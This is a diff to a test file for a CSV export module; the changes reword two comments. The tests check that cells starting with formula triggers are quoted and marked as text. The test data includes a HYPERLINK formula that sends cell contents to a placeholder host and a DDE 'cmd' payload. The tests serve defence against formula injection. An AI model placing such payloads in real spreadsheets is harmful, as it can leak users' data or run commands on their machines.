@@ -1,7 +1,7 @@
 import { expect, it } from "vitest";
 import { csvBegin, csvCell, csvLine, csvRowsOf } from "./csv.ts";
 
-/** How each may begin what a spreadsheet runs, and what it then would run. */
+/** Beginnings of a cell that a spreadsheet executes, and what would be executed. */
 const begins = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n=", "=-"];
 const formulas = ["1+1", 'HYPERLINK("https://contoh.example?a="&A1,"klik")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "0"];
 
@@ -10,7 +10,7 @@ it("makes no cell of sixty that a spreadsheet would take for a formula", () => {
   expect(cells.length).toBeGreaterThanOrEqual(60);
   for (const cell of cells) {
     const written = csvCell(cell);
-    // Quoted, so that what follows stays in the cell, and a text by its apostrophe.
+    // Quoted, so that the rest stays in the cell, and marked as text by its apostrophe.
     expect(written.startsWith(`"'`)).toBe(true);
     expect(written.slice(2, -1).replaceAll('""', '"')).toBe(cell);
   }
